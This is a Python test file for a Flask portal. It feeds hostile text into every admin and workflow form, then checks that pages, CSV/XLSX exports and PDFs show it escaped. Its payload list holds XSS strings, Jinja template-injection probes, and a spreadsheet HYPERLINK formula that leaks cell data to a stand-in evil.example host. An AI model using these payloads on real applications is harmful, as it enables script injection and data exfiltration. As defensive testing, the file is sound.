"""Hostile text through the real forms, then every place it is shown.

Each payload goes into every text field of every editable admin form (item, product, staff,
show unit, visit, shift, cleaning area…) and of the main workflow forms (repair report and
comment, damage report, handover entry with items). Then the list, details and edit pages,
the repair/damage/handover pages, Today, the dashboard, the CSV/XLSX exports and the site PDF
are rendered: no payload comes back unescaped, ``{{7*7}}`` never becomes 49, exported cells
never start with a formula character, and nothing answers 5xx (too long → 400 with a message).
"""

import csv
import io
import re
from datetime import date


from flask_admin.contrib.sqla import ModelView
from sqlalchemy import select

from portal.extensions import db
from tests.forms import Forms
from portal.models import RepairTicket, Site

# (name, payload, raw fragment that must never appear in HTML)
PAYLOADS = [
    ("script", "<script>alert('XSS1')</script>", "<script>alert('XSS1')"),
    ("attribute", '"><img src=x onerror=alert(2)>', "<img src=x onerror=alert(2)>"),
    ("javascript-url", "javascript:alert(3)//", 'href="javascript:alert(3)'),
    ("jinja", "TPL{{7*7}}TPL", "TPL49TPL"),
    ("jinja-block", "TPL{%print(7*7)%}TPL", "TPL49TPL"),
    ("long", "长" * 10240, None),
    ("control", "ctl\x01\x08\x1b[31m\x7f\x00end", None),
    ("rtl", "\u202eexe.txt\u202c \u200f右到左", None),
    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"点我")', None),
    ("plus", "+86 138 0000 0000", None),
    ("minus", "-2+3", None),
    ("at", "@SUM(A1:A9)", None),
    ("tab", "\t=1+1", None),
    ("cr", "\r=1+1", None),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TEXT_TYPES = {"text", "search", "tel", "url", "email", None}
KEEP = {"csrf_token", "version", "url"}


def _main_form(html):
    forms = [
        f
        for f in Forms(html).forms
        if f["method"] == "post"
        and any(k in TEXT_TYPES or k == "textarea" for _, k, _ in f["fields"])
    ]
    return max(forms, key=lambda f: len(f["fields"]), default=None)


def _fill(form, payload, skip=()):
    data, filled = {}, 0
    for name, kind, value in form["fields"]:
        if (kind in TEXT_TYPES or kind == "textarea") and name not in KEEP and name not in skip:
            value, filled = payload, filled + 1
        data.setdefault(name, value if value is not None else "")
    return data, filled


class Tally:
    def __init__(self):
        self.submitted = self.fields = self.accepted = self.rejected = self.renders = 0
        self.unescaped, self.errors = [], []

    def submit(self, client, url, data, filled):
        resp = client.post(url, data)
        self.submitted += 1
        self.fields += filled
        self._status(f"POST {url}", resp)
        if resp.status_code in (200, 302):
            self.accepted += 1
        elif resp.status_code == 400:
            self.rejected += 1
            body = resp.get_data(as_text=True)
            assert any(
                m in body
                for m in ("has-error", "is-invalid", "invalid-feedback", "alert-danger", "请检查")
            ), f"400 without a message: {url}"
        return resp

    def _status(self, what, resp):
        if resp.status_code >= 500:
            self.errors.append(f"{what} → {resp.status_code}")

    def render(self, client, url, raw):
        resp = client.get(url)
        self.renders += 1
        self._status(f"GET {url}", resp)
        body = resp.get_data(as_text=True)
        if raw and raw in body:
            self.unescaped.append(f"{url}: {raw}")
        return resp


def _admin_views(app):
    views = app.extensions["portal_admin"]._views
    return [
        v
        for v in views
        if isinstance(v, ModelView) and v._editable and v.endpoint not in ("user", "audit")
    ]


def _record(view, sz01):
    model = view.model
    stmt = select(model.id).order_by(model.id.desc()).limit(1)
    if hasattr(model, "site_id"):
        stmt = stmt.where(model.site_id == sz01)
    elif model is Site:
        stmt = stmt.where(model.id == sz01)
    return db.session.scalar(stmt)


def _workflow(tally, clerk, sup, sz01, payload, raw, dbs):
    """The workflow forms a clerk fills every day, then the pages that show what was written."""
    # a repair report, then a comment on it
    form = _main_form(clerk.get("/repairs/new/").get_data(as_text=True))
    data, n = _fill(form, payload)
    data.update(site=sz01, priority="normal")
    resp = tally.submit(clerk, "/repairs/new/", data, n)
    ticket = dbs.scalar(select(RepairTicket.id).order_by(RepairTicket.id.desc()))
    tally.submit(clerk, f"/repairs/{ticket}/comment", {"text": payload}, 1)
    for url in (f"/repairs/{ticket}/", "/repairs/"):
        tally.render(clerk, url, raw)
    # a damage report
    page = clerk.get(f"/damage/new/?site={sz01}").get_data(as_text=True)
    form = _main_form(page)
    if form:
        data, n = _fill(form, payload)
        data.update(
            site=sz01, visit_at=date.today().strftime("%Y-%m-%dT10:00"), estimated_cost="100"
        )
        resp = tally.submit(clerk, "/damage/new/", data, n)
        if resp.status_code == 302:
            tally.render(clerk, resp.headers["Location"], raw)
    tally.render(clerk, "/damage/", raw)
    # a handover entry with follow-up items
    form = _main_form(clerk.get("/handover/").get_data(as_text=True))
    if form:
        data, n = _fill(form, payload)
        data["items"] = f"{payload}\n第二件事"
        tally.submit(clerk, "/handover/write", data, n)
    tally.render(clerk, "/handover/", raw)
    tally.render(clerk, "/today/", raw)
    tally.render(sup, "/dashboard/", raw)


def _exports(tally, sup, views):
    cells = 0
    for view in views:
        url = view.url.rstrip("/")
        resp = sup.get(f"{url}/export/csv/")
        tally._status(f"{url} csv", resp)
        if resp.status_code == 200:
            for row in csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))):
                for cell in row:
                    cells += 1
                    if cell.startswith(FORMULA_START):
                        tally.errors.append(
                            f"{url} csv cell starts with a formula character: {cell[:40]!r}"
                        )
        resp = sup.get(f"{url}/export/xlsx/")
        tally._status(f"{url} xlsx", resp)
        if resp.status_code == 200:
            from openpyxl import load_workbook

            for row in load_workbook(io.BytesIO(resp.data)).active.iter_rows(values_only=True):
                for v in row:
                    cells += 1
                    if isinstance(v, str) and v.startswith(FORMULA_START):
                        tally.errors.append(
                            f"{url} xlsx cell starts with a formula character: {v[:40]!r}"
                        )
    return cells


def _pdf(tally, sup, sz01):
    from pypdf import PdfReader

    resp = sup.get(f"/dashboard/site/{sz01}/{date.today():%Y-%m}.pdf")
    tally._status("site pdf", resp)
    assert resp.status_code == 200 and resp.data[:4] == b"%PDF"
    return "".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(resp.data)).pages)


def test_hostile_text_is_never_rendered_unescaped(app, login, full_demo, dbs):
    sz01 = full_demo["SZ01"]
    admin, clerk, sup = login("admin"), login("clerk_sz01"), login("sup_south")
    views = _admin_views(app)
    tally, export_cells = Tally(), 0
    for _name, payload, raw in PAYLOADS:
        for view in views:
            url = view.url.rstrip("/")
            record = _record(view, sz01)
            if record is None:
                continue
            form = _main_form(admin.get(f"{url}/edit/?id={record}").get_data(as_text=True))
            if form is None:
                continue
            data, n = _fill(form, payload, skip=("new_password",))
            tally.submit(admin, f"{url}/edit/?id={record}", data, n)
            for page in (f"{url}/", f"{url}/details/?id={record}", f"{url}/edit/?id={record}"):
                tally.render(admin, page, raw)
        _workflow(tally, clerk, sup, sz01, payload, raw, dbs)
        export_cells += _exports(tally, sup, views)
        pdf_text = _pdf(tally, sup, sz01)
    print(
        f"\nhostile: {len(PAYLOADS)} payloads × {len(views)} admin forms + 4 workflow forms: "
        f"{tally.submitted} submissions filling {tally.fields} text fields "
        f"({tally.accepted} accepted, {tally.rejected} refused with 400), "
        f"{tally.renders} pages rendered, {export_cells} export cells checked, "
        f"{len(tally.unescaped)} unescaped, {len(tally.errors)} server errors/formula cells"
    )
    assert not tally.errors, "\n".join(tally.errors[:40])
    assert not tally.unescaped, "\n".join(tally.unescaped[:40])
    assert "TPL49TPL" not in pdf_text


def test_payload_is_stored_and_shown_as_text(app, login, full_demo):
    """The test above would notice a leak: the escaped payload is really on the page."""
    sz01 = full_demo["SZ01"]
    clerk = login("clerk_sz01")
    payload = PAYLOADS[0][1]
    resp = clerk.post(
        "/repairs/new/",
        {"site": sz01, "equipment": payload, "description": "TPL{{7*7}}TPL", "priority": "normal"},
    )
    assert resp.status_code == 302
    body = clerk.get(resp.headers["Location"]).get_data(as_text=True)
    assert "&lt;script&gt;alert(&#39;XSS1&#39;)&lt;/script&gt;" in body and payload not in body
    assert "TPL{{7*7}}TPL" in body and "TPL49TPL" not in body
    assert re.search(r"<script[^>]*>alert", body) is None
